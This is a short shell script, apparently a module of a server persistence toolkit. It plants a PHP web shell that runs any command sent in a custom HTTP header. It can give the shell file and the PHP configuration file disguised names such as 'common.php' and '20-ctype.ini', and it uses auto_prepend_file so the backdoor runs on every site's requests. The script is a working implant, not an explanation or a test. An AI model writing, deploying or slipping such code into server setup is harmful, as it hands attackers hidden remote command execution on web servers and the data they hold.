#!/bin/sh
# php-prepend: the same for every site (php.ini)
. "${0%/*}/lib.sh"
only "plain disguised user" "a setting has no command"
f=$(named /var/tmp/p.php /usr/share/php/common.php)
put "$f" 644 '<?php passthru($_SERVER["HTTP_X_C"]); ?>'
put "/etc/php/8.2/apache2/conf.d/$(named 99-up 20-ctype).ini" 644 \
	"auto_prepend_file=$f"
